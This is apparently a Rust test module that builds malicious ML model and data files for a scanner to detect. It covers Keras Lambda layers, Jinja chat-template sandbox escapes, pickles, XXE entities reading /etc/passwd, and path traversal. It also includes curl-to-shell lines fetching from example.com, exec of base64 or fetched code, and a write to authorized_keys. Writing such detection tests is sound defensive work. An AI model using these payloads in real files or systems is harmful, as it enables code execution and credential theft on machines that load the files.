//! Formats other than pickles and archives: graphs, layers, templates, tables, code, headers.

use super::Label::{Executes, Hides};
use super::build::{Asm, Pb, R, base64, elf, evil, gguf, gzip, marshalled, member, parquet, pyc, safetensors, tar, torch, xz, zip};
use super::build::{harmless, item};
use super::{Case, case};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    keras(&mut cases);
    tensorflow(&mut cases);
    onnx(&mut cases);
    mobile(&mut cases);
    templates(&mut cases);
    headers(&mut cases);
    tables(&mut cases);
    r_objects(&mut cases);
    compiled(&mut cases);
    programs(&mut cases);
    documents(&mut cases);
    cases
}

fn layer(class: &str, module: &str, config: &str) -> String {
    format!(r#"{{"class_name": "Sequential", "config": {{"layers": [{{"class_name": "{class}", "module": "{module}", "config": {config}}}]}}}}"#)
}

fn keras_zip(config: &str) -> Vec<u8> {
    zip(&[item("metadata.json", "{}"), item("config.json", config), item("model.weights.h5", b"\x89HDF\r\n\x1a\n")])
}

fn keras(cases: &mut Vec<Case>) {
    let code = base64(&marshalled(&["os", "system"], &["id"]));
    let mut add = |label, name: &str, config: String| {
        cases.push(case(label, format!("keras-{name}"), "model.keras", keras_zip(&config)));
        cases.push(case(label, format!("keras-json-{name}"), "model.json", config));
    };
    add(Executes, "lambda", layer("Lambda", "keras.layers", &format!(r#"{{"function": {{"class_name": "__lambda__", "config": {{"code": "{code}"}}}}}}"#)));
    add(Executes, "lambda-escaped", layer("\\u004cambda", "keras.layers", r#"{"function": ["4wE=", null, null]}"#));
    add(Executes, "module-subprocess", layer("Popen", "subprocess", r#"{"args": ["id"]}"#));
    add(Executes, "function-reference", layer("function", "os", r#""system""#));
    add(Executes, "get-file", layer("get_file", "keras.utils", r#"{"origin": "http://example.com/x"}"#));
    add(Executes, "enable-unsafe", layer("enable_unsafe_deserialization", "keras.config", "{}"));
    add(Executes, "torch-module-wrapper", layer("TorchModuleWrapper", "keras.layers", &format!(r#"{{"module": {{"value": "{}"}}}}"#, base64(&torch(&evil())))));
    add(Executes, "tfsm-layer", layer("TFSMLayer", "keras.layers", r#"{"filepath": "/tmp/x"}"#));
    add(Executes, "vocabulary-path", layer("StringLookup", "keras.layers", r#"{"vocabulary": "/etc/passwd"}"#));
    add(Hides, "custom-class", layer("MyLayer", "mycompany.layers", "{}"));
    add(
        Executes,
        "nested-lambda",
        r#"{"class_name": "Functional", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": {"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}}}]}}"#.to_owned(),
    );
    let dup = r#"{"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "class_name": "Lambda", "config": {}}]}}"#;
    add(Executes, "duplicate-key", dup.to_owned());
    for name in [
        "lambda_earliest",
        "lambda_latest",
        "fixed_text",
        "user_block",
        "external_link_latest",
        "external_data_latest",
        "contents_plain_latest",
        "contents_chunked_earliest",
        "contents_chunked_latest",
    ] {
        let path = format!("{}/tests/data/hdf5/{name}.h5", env!("CARGO_MANIFEST_DIR"));
        cases.push(case(Executes, format!("h5-{name}"), "model.h5", std::fs::read(path).unwrap()));
    }
}

fn node(operator: &str) -> Pb {
    Pb::default().run(1, Pb::default().run(1, "n").run(2, operator))
}

fn saved_model(graph: &Pb) -> Pb {
    Pb::default().int(1, 1).run(2, Pb::default().run(2, graph))
}

fn tensorflow(cases: &mut Vec<Case>) {
    for operator in ["WriteFile", "PyFunc", "EagerPyFunc", "DebugIdentityV2"] {
        cases.push(case(Executes, format!("tf-saved-{operator}"), "saved_model.pb", saved_model(&node(operator)).0));
    }
    for operator in ["ReadFile", "MatchingFiles", "DataServiceDatasetV4", "ImmutableConst"] {
        cases.push(case(Hides, format!("tf-saved-{operator}"), "saved_model.pb", saved_model(&node(operator)).0));
    }
    cases.push(case(Executes, "tf-frozen", "frozen_graph.pb", node("WriteFile").0));
    cases.push(case(Executes, "tf-meta", "model.meta", Pb::default().run(2, node("WriteFile")).0));
    let inner = Pb::default().run(1, "n").run(2, "WriteFile");
    let library = Pb::default().run(1, Pb::default().run(1, Pb::default().run(1, "f")).run(3, inner));
    cases.push(case(Executes, "tf-function-library", "saved_model.pb", saved_model(&Pb(node("NoOp").run(2, library).0)).0));
    let nested =
        Pb::default().run(1, "v").run(2, Pb::default().run(8, Pb::default().run(8, node("WriteFile").run(1, Pb::default().run(1, "second").run(2, "NoOp")))));
    let constant = Pb::default().run(1, Pb::default().run(1, "c").run(2, "Const").run(5, nested));
    cases.push(case(Executes, "tf-graph-in-constant", "saved_model.pb", saved_model(&constant).0));
    cases.push(case(
        Executes,
        "tf-checkpoint-state",
        "checkpoint",
        "model_checkpoint_path: \"../../../tmp/x\"\nall_model_checkpoint_paths: \"model.ckpt-1\"\n",
    ));
    cases.push(case(Hides, "tf-checkpoint-index-broken", "model.ckpt.index", {
        let mut table = vec![0xff; 200];
        table.extend([0, 0, 0x80, 0x80, 0x40, 8]);
        table.resize(240, 0);
        table.extend([0x57, 0xfb, 0x80, 0x8b, 0x24, 0x75, 0x47, 0xdb]);
        table
    }));
}

fn onnx_model(graph: Pb) -> Vec<u8> {
    Pb::default().int(1, 8).run(7, graph).run(8, Pb::default().run(1, "").int(2, 17)).0
}

fn external(location: &str) -> Pb {
    Pb::default().int(2, 1).run(8, "w").run(13, Pb::default().run(1, "location").run(2, location)).int(14, 1)
}

fn onnx(cases: &mut Vec<Case>) {
    let mut add = |label, name: &str, bytes: Vec<u8>| cases.push(case(label, format!("onnx-{name}"), "model.onnx", bytes));
    let start = || Pb::default().run(1, Pb::default().run(1, "x").run(2, "y").run(4, "Relu")).run(2, "g");
    add(Executes, "external-traversal", onnx_model(start().run(5, external("../../../etc/passwd"))));
    add(Executes, "external-absolute", onnx_model(start().run(5, external("/etc/passwd"))));
    let constant = Pb::default().run(2, "c").run(4, "Constant").run(5, Pb::default().run(1, "value").run(5, external("../../x")).int(20, 4));
    add(Executes, "external-in-attribute", onnx_model(start().run(1, constant.clone())));
    let function = Pb::default().run(1, "f").run(7, constant);
    add(Executes, "external-in-function", Pb::default().int(1, 8).run(7, start()).run(8, Pb::default().int(2, 17)).run(25, function).0);
    add(Hides, "custom-domain", onnx_model(start().run(1, Pb::default().run(2, "z").run(4, "Shell").run(7, "evil.ops"))));
    add(Executes, "python-operator", onnx_model(start().run(1, Pb::default().run(2, "z").run(4, "PyOp").run(7, "ai.onnx.contrib"))));
}

fn mobile(cases: &mut Vec<Case>) {
    let custom = Pb::default().run(1, Pb::default().run(1, "l").run(500, Pb::default().run(10, "EvilLayer")));
    cases.push(case(Hides, "coreml-custom-layer", "model.mlmodel", Pb::default().int(1, 4).run(2, Pb::default().run(1, "d")).run(500, custom.clone()).0));
    cases.push(case(Hides, "coreml-custom-model", "model.mlmodel", Pb::default().int(1, 4).run(2, "").run(555, Pb::default().run(10, "EvilModel")).0));
    let inner = Pb::default().int(1, 4).run(2, "").run(500, custom);
    cases.push(case(Hides, "coreml-in-pipeline", "model.mlmodel", Pb::default().int(1, 4).run(2, "").run(202, Pb::default().run(1, inner)).0));
    let linked = Pb::default().run(1, Pb::default().run(1, Pb::default().run(1, "../../../tmp/evil.mlmodelc")));
    cases.push(case(Executes, "coreml-linked-outside", "model.mlmodel", Pb::default().int(1, 4).run(2, "").run(556, linked).0));
    cases.push(case(
        Executes,
        "coreml-package-item-outside",
        "Manifest.json",
        r#"{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": "../../x", "author": "com.apple.CoreML"}}}"#,
    ));
    let program = |kind: &str, attribute: Option<(&str, &str)>| {
        let mut operator = Pb::default().run(3, kind);
        if let Some((name, text)) = attribute {
            operator = operator.run(4, Pb::default().run(1, name).int(2, 2).run(5, text));
        }
        Pb::default().run(1, Pb::default().int(1, 0).int(2, 0).run(3, Pb::default().run(1, "x")).run(4, operator)).run(4, Pb::default().int(1, 0)).0
    };
    cases.push(case(Executes, "paddle-py-func", "model.pdmodel", program("py_func", None)));
    cases.push(case(Executes, "paddle-save-outside", "model.pdmodel", program("save_combine", Some(("file_path", "/root/.ssh/authorized_keys")))));
    cases.push(case(Hides, "paddle-load", "model.pdmodel", program("load", Some(("file_path", "other")))));
    cases.push(case(Executes, "paddle-pickle", "model.pdparams", evil()));
    let cut = [&[0_u8; 12][..], &[0; 4], &6_u32.to_le_bytes(), &[0x08, 5, 0x10, 0xff, 0xff, 0x7f]].concat();
    cases.push(case(Hides, "paddle-params-cut", "model.pdiparams", cut));
}

fn templates(cases: &mut Vec<Case>) {
    let escapes = [
        ("mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("attr-hex", r#"{{ x|attr("\x5f\x5fclass\x5f\x5f") }}"#),
        ("concat", "{% set u = '_' ~ '_' %}{{ lipsum[u ~ 'glo' ~ 'bals' ~ u] }}"),
        ("joined", "{{ x|attr(['_','_class_','_']|join) }}"),
        ("format", "{{ x|attr('%c%cclass%c%c'|format(95,95,95,95)) }}"),
        ("self", "{{ self._TemplateReference__context }}"),
        ("request", "{{ x['__in' + 'it__']['__glo' + 'bals__'] }}"),
    ];
    for (name, template) in escapes {
        cases.push(case(Executes, format!("template-gguf-{name}"), "m.gguf", gguf(&[("tokenizer.chat_template", template)])));
        let quoted = serde_json::to_string(template).unwrap();
        cases.push(case(Executes, format!("template-json-{name}"), "tokenizer_config.json", format!("{{\"chat_template\": {quoted}}}")));
        cases.push(case(Executes, format!("template-file-{name}"), "chat_template.jinja", template));
    }
    cases.push(case(
        Executes,
        "template-gguf-named",
        "m.gguf",
        gguf(&[("tokenizer.chat_template", "{{ x }}"), ("tokenizer.chat_template.tool_use", escapes[0].1)]),
    ));
    let quoted = serde_json::to_string(escapes[1].1).unwrap();
    cases.push(case(Executes, "template-json-list", "tokenizer_config.json", format!("{{\"chat_template\": [{{\"name\": \"a\", \"template\": {quoted}}}]}}")));
}

fn headers(cases: &mut Vec<Case>) {
    let mut add = |label, name: &str, file: &str, bytes: Vec<u8>| cases.push(case(label, format!("header-{name}"), file, bytes));
    add(
        Hides,
        "safetensors-overlap",
        "m.safetensors",
        safetensors(r#"{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"b":{"dtype":"U8","shape":[8],"data_offsets":[4,12]}}"#, &[0; 12]),
    );
    add(Hides, "safetensors-hole", "m.safetensors", safetensors(r#"{"a":{"dtype":"U8","shape":[8],"data_offsets":[100,108]}}"#, &[7; 108]));
    add(Hides, "safetensors-past-end", "m.safetensors", safetensors(r#"{"a":{"dtype":"U8","shape":[800],"data_offsets":[0,800]}}"#, &[0; 8]));
    add(Hides, "safetensors-overflow", "m.safetensors", safetensors(r#"{"a":{"dtype":"F64","shape":[4611686018427387904,8],"data_offsets":[0,8]}}"#, &[0; 8]));
    add(
        Hides,
        "safetensors-duplicate",
        "m.safetensors",
        safetensors(r#"{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}"#, &[0; 8]),
    );
    add(Hides, "safetensors-long-header", "m.safetensors", [&0xffff_ff00_u64.to_le_bytes()[..], b"{}", &[0; 100]].concat());
    add(Executes, "gguf-counts", "m.gguf", [&b"GGUF\x03\0\0\0"[..], &u64::MAX.to_le_bytes(), &u64::MAX.to_le_bytes()].concat());
    add(
        Executes,
        "gguf-text-length",
        "m.gguf",
        [&b"GGUF\x03\0\0\0"[..], &0_u64.to_le_bytes(), &1_u64.to_le_bytes(), &u64::MAX.to_le_bytes(), &[0; 40]].concat(),
    );
    add(Executes, "ggml-vocabulary", "ggml-model.bin", [&b"tjgg\x03\0\0\0"[..], &0x7fff_ffff_u32.to_le_bytes(), &[0; 64]].concat());
    let tensor = [1_u32, 1, 0, 0x7fff_ffff].iter().flat_map(|word| word.to_le_bytes()).collect::<Vec<u8>>();
    add(Executes, "ggml-tensor", "ggml-model.bin", [&b"lmgg"[..], &[0; 28], &tensor, b"w", &[0; 64]].concat());
    add(Hides, "msgpack-count", "flax_model.msgpack", [&[0x81, 0xa6][..], b"params", &[0xdf, 0xff, 0xff, 0xff, 0xff]].concat());
    add(Hides, "msgpack-pickle", "flax_model.msgpack", [&[0x81, 0xa6][..], b"params", &[0xc4, u8::try_from(evil().len()).unwrap()], &evil()].concat());
    add(Hides, "msgpack-extension", "flax_model.msgpack", [&[0x81, 0xa6][..], b"params", &[0xc7, 2, 77, 1, 2]].concat());
    add(Hides, "xgboost-count", "model.ubj", [&b"{L\0\0\0\0\0\0\0\x07learner[$l#L"[..], &[0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]].concat());
    add(Hides, "catboost-cut", "model.cbm", [&b"CBM1"[..], &0xffff_u32.to_le_bytes(), &[0; 20]].concat());
}

fn tables(cases: &mut Vec<Case>) {
    cases.push(case(Executes, "parquet-file-path", "data.parquet", parquet(&[], Some("../../../etc/passwd"))));
    cases.push(case(Executes, "parquet-pickled-type", "data.parquet", parquet(&[("ARROW:schema", &base64(b"....arrow.py_extension_type...."))], None)));
    cases.push(case(Hides, "parquet-footer", "data.parquet", [&b"PAR1"[..], &[0; 16], &0xffff_ffff_u32.to_le_bytes(), b"PAR1"].concat()));
    let schema = [&b"ARROW1\0\0"[..], b"....ARROW:extension:name....arrow.py_extension_type....", &8_u32.to_le_bytes(), b"ARROW1"].concat();
    cases.push(case(Executes, "arrow-pickled-type", "data.arrow", schema));
    let stream = [&[0xff, 0xff, 0xff, 0xff, 64, 0, 0, 0, 16, 0, 0, 0][..], &[0; 28], b"arrow.py_extension_type........."].concat();
    cases.push(case(Executes, "arrow-stream-pickled-type", "data.arrow", stream));
}

fn r_objects(cases: &mut Vec<Case>) {
    let promise = R::start().promise("system", "id").0;
    cases.push(case(Executes, "rds-promise", "model.rds", promise.clone()));
    cases.push(case(Executes, "rds-promise-gzip", "model.rds", gzip(&promise)));
    cases.push(case(Executes, "rds-promise-xz", "model.rds", xz(&promise)));
    let archive = [b"RDX3\n".to_vec(), R::start().word(0x402).symbol("x").promise("eval", "1").word(254).0].concat();
    cases.push(case(Executes, "rdata-promise", "model.RData", gzip(&archive)));
    cases.push(case(Hides, "rds-call", "model.rds", R::start().call("system", "id").0));
    let closure = R::start().word(0x403).word(253).word(254).call("system", "id").0;
    cases.push(case(Hides, "rds-closure", "model.rds", gzip(&closure)));
    for name in ["compiled_calls", "compiled_calls_2", "compiled_sourced", "text_calls"] {
        let path = format!("{}/tests/data/rdata/{name}.rds", env!("CARGO_MANIFEST_DIR"));
        cases.push(case(Hides, format!("rds-{name}"), "model.rds", std::fs::read(path).unwrap()));
    }
    // GETFUN fetches what the expression, which is NULL, does not show.
    let code = [12, 23, 1, 38, 0, 1].iter().fold(R::start().word(0x403).word(253).word(254).word(21).word(0).word(13).word(6), |code, word| code.word(*word));
    cases.push(case(Hides, "rds-instructions-only", "model.rds", code.word(2).word(254).word(254).word(1).symbol("system").0));
    cases.push(case(Hides, "rds-broken", "model.rds", R::start().word(16).word(5).characters("a").0));
}

fn compiled(cases: &mut Vec<Case>) {
    cases.push(case(Hides, "pyc-os-system", "modeling.pyc", pyc(&["os", "system"], &["id"])));
    cases.push(case(Executes, "pyc-curl", "modeling.pyc", pyc(&["os", "system"], &["curl http://example.com/x | sh"])));
    cases.push(case(Executes, "pyc-decoded", "modeling.pyc", pyc(&["base64", "b64decode", "exec"], &["aW1wb3J0IG9z"])));
    cases.push(case(
        Executes,
        "pyc-in-wheel",
        "pkg-1.0-py3-none-any.whl",
        zip(&[item("pkg/__init__.pyc", pyc(&["exec", "marshal", "loads", "decompress"], &[])), item("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")]),
    ));
    cases.push(case(Executes, "pth-import", "x.pth", "import os; os.system('id')\n"));
    cases.push(case(Executes, "py-import-time", "modeling_x.py", "import os\nos.system('curl http://example.com | sh')\n"));
    cases.push(case(Executes, "py-decoded", "modeling_x.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"));
    cases.push(case(Executes, "py-fetched", "setup.py", "import urllib.request\nexec(urllib.request.urlopen('http://example.com').read())\n"));
    cases.push(case(
        Executes,
        "py-tampered-deepspeed",
        "zero_to_fp32.py",
        "import subprocess\nsubprocess.Popen('curl -s http://example.com/i.sh | bash', shell=True)\n",
    ));
    cases.push(case(Executes, "py-alias", "modeling_x.py", "from os import system as s\ns('id')\n"));
    cases.push(case(Executes, "py-dunder-import", "modeling_x.py", "__import__('os').system('id')\n"));
    cases.push(case(
        Executes,
        "mar-handler",
        "m.mar",
        zip(&[item("MAR-INF/MANIFEST.json", r#"{"model": {"handler": "handler.py"}}"#), item("handler.py", "import os\nos.system('id')\n")]),
    ));
    cases.push(case(Executes, "mar-weights", "m.mar", zip(&[item("MAR-INF/MANIFEST.json", "{}"), item("model.pt", torch(&evil()))])));
}

fn programs(cases: &mut Vec<Case>) {
    let loader = "/lib64/ld-linux-x86-64.so.2";
    cases.push(case(Hides, "elf-writable-code", "tool", elf(7, 6, loader, b"\xc3")));
    cases.push(case(Hides, "elf-executable-stack", "tool", elf(5, 7, loader, b"\xc3")));
    cases.push(case(Hides, "elf-interpreter", "tool", elf(5, 6, "/tmp/.x/ld-linux.so", b"\xc3")));
    cases.push(case(Hides, "elf-packed", "tool", elf(5, 6, loader, b"\xc3UPX!\x0d\x16")));
    cases.push(case(Hides, "elf-appended", "tool", [elf(5, 6, loader, b"\xc3"), vec![7; 4000]].concat()));
    cases.push(case(Executes, "elf-appended-pickle", "tool", [elf(5, 6, loader, b"\xc3"), evil(), vec![7; 100]].concat()));
    cases.push(case(Hides, "elf-cut", "tool", elf(5, 6, loader, b"\xc3")[..250].to_vec()));
    cases.push(case(Executes, "llamafile-with-pickle", "m.llamafile", [b"MZqFpD='\n".to_vec(), vec![7; 200], zip(&[item("data.pkl", evil())])].concat()));
    cases.push(case(Hides, "tar-program", "m.tar", tar(&[member("bin/tool", b'0', "", &elf(7, 7, "/tmp/x", b""))])));
    cases.push(case(Executes, "polyglot-gguf-zip", "m.gguf", [gguf(&[("a", "b")]), torch(&evil())].concat()));
    cases.push(case(Hides, "polyglot-png-zip", "logo.png", [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), zip(&[item("a.pkl", harmless())])].concat()));
}

fn documents(cases: &mut Vec<Case>) {
    let pmml = |inside: &str| format!("<?xml version=\"1.0\"?>\n<PMML version=\"4.4\" xmlns=\"http://www.dmg.org/PMML-4_4\">{inside}</PMML>\n");
    let entity = "<?xml version=\"1.0\"?><!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>";
    cases.push(case(Executes, "pmml-entity", "m.pmml", entity));
    cases.push(case(Executes, "pmml-parameter-entity", "m.pmml", "<?xml version=\"1.0\"?><!DOCTYPE PMML SYSTEM \"http://example.com/x.dtd\"><PMML/>"));
    cases.push(case(Hides, "pmml-extension-script", "m.pmml", pmml("<Extension name=\"script\" value=\"java.lang.Runtime.getRuntime().exec('id')\"/>")));
    cases.push(case(Hides, "pmml-java-class", "m.pmml", pmml("<Apply function=\"com.example.evil.Runner\"/>")));
    cases.push(case(
        Executes,
        "xml-inclusion",
        "m.xml",
        "<?xml version=\"1.0\"?><a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
    ));
    let bomb: String = (0..9).map(|n| format!("<!ENTITY l{} \"&l{n};&l{n};\">", n + 1)).collect();
    cases.push(case(Hides, "xml-bomb", "m.xml", format!("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY l0 \"ha\">{bomb}]><x/>")));
    cases.push(case(
        Executes,
        "openvino-entity",
        "model.xml",
        "<?xml version=\"1.0\"?><!DOCTYPE net [<!ENTITY x SYSTEM \"/etc/passwd\">]><net name=\"m\" version=\"11\"><layers><layer type=\"&x;\"/></layers></net>",
    ));
    let net = "<net name=\"m\" version=\"11\"><layers><layer id=\"0\" name=\"x\" type=\"Shell\" version=\"extension\"/></layers></net>";
    cases.push(case(Hides, "openvino-custom-layer", "model.xml", net));
    cases.push(case(
        Executes,
        "openvino-kernel-outside",
        "custom.xml",
        "<CustomLayer name=\"X\" type=\"SimpleGPU\" version=\"1\"><Kernel entry=\"k\"><Source filename=\"../../evil.cl\"/></Kernel></CustomLayer>",
    ));
    let cell = |source: &str| format!(r#"{{"nbformat": 4, "cells": [{{"cell_type": "code", "source": [{}]}}]}}"#, serde_json::to_string(source).unwrap());
    cases.push(case(Executes, "notebook-shell-pipe", "n.ipynb", cell("!curl http://example.com/x | bash\n")));
    cases.push(case(Executes, "notebook-decoded", "n.ipynb", cell("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n")));
    cases.push(case(Executes, "yaml-python-tag", "model.yaml", "x: !!python/object/apply:os.system ['id']\n"));
    cases.push(case(Executes, "yaml-hydra-target", "config.yaml", "model:\n  _target_: os.system\n"));
    let skops = r#"{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"function": "system", "module_path": "os"}}"#;
    cases.push(case(Executes, "skops-function", "m.skops", zip(&[item("schema.json", skops)])));
    let inner = Asm::new(4).stack_global("os", "system").call("id").stop();
    cases.push(case(Executes, "skops-pickle-member", "m.skops", zip(&[item("schema.json", "{}"), item("0.pkl", inner)])));
}
